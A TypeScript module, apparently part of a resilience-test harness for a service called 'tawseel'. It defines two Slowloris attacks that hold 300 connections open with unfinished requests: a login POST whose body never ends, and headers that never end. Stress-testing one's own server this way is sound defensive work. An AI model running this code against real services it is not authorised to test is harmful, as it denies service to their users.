import { setTimeout } from 'node:timers/promises';
import { Connection } from '../connection.ts';
import { type Attack, Tally } from './attack.ts';

const CONNECTIONS = 300;

/** Slowloris: connections that send the beginning of a request and a byte of it now and then, never its end. */
function unfinished(what: string, beginning: string): Attack {
  return {
    what: `${CONNECTIONS} ${what} from one address`,
    run: async ({ url }, from, until) => {
      const tally = new Tally();
      const open = await Promise.all(
        Array.from({ length: CONNECTIONS }, async () => {
          const connection = await Connection.open(url, from);
          // Never answered while it is open: what comes is why it is closed.
          connection.ask(beginning).then(
            (heard) => tally.note(heard),
            () => tally.add('closed'),
          );
          return connection;
        }),
      );
      while (performance.now() < until) {
        await setTimeout(1000);
        for (const { socket } of open) if (socket.writable) socket.write('x');
      }
      const left = open.filter(({ socket }) => socket.readyState === 'open');
      const summary = String(tally);
      for (const connection of open) connection.close();
      return `${summary || 'no answer'}; ${left.length} still open`;
    },
  };
}

const LOGIN =
  'POST /api/admin/login HTTP/1.1\r\nHost: tawseel\r\nContent-Type: application/json\r\nContent-Length: 8000\r\n\r\n';

export const unfinishedAttacks: Attack[] = [
  unfinished('bodies that do not end', LOGIN),
  unfinished('heads that do not end', 'GET / HTTP/1.1\r\nHost: tawseel\r\nX-Long: '),
];
